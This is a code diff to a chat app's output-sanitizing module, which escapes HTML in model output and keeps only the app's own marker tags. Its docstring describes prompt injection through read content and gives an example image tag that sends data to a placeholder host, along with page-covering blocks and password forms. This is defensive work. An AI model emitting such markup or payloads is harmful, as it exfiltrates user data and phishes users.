@@ -3,7 +3,7 @@
 Why: a model's thought, a final answer or a tool's result is written by whoever controls the model's
 input (a web page it read, an uploaded file). Rendered as HTML, `<img src=http://host/?d=...>` is
 fetched without a click, a `position:fixed` block covers the page and a `<form>` asks for a password.
-Every `<` outside code blocks becomes `&lt;` (the app's own error marker is the one tag kept; inside
+Every `<` outside code blocks becomes `&lt;` (the app's own two class markers are the only tags kept; inside
 inline code a look-alike), and Markdown images become links the person may choose to open. Code blocks,
 found with a CommonMark parser as the renderer finds them, are left exactly as written: they show literally. The page's Content-Security-Policy
 (`ui/web/security_headers.py`) is the second line: images, media and form targets only from the app.
@@ -12,8 +12,9 @@ from __future__ import annotations
 
 import re
 
-# The only markup the app itself puts into chat text.
-_APP_TAGS = ('<span class="ad-error">', "</span>")
+# The only markup the app itself puts into chat text: the error marker and the (empty) marker of a step's
+# preview (ui/chat/step_output.py), which the chat's CSS finds its message by. A class is all they carry.
+_APP_TAGS = ('<span class="ad-error">', '<span class="ad-step-output">', "</span>")
 _INLINE_CODE = re.compile(r"(`+)(?!`)(.+?)(?<!`)\1(?!`)")
 _IMAGE = re.compile(r"!\[")
 LOOKALIKE_LT = "\uff1c"  # "＜": shown for "<" inside inline code, where an entity would show literally
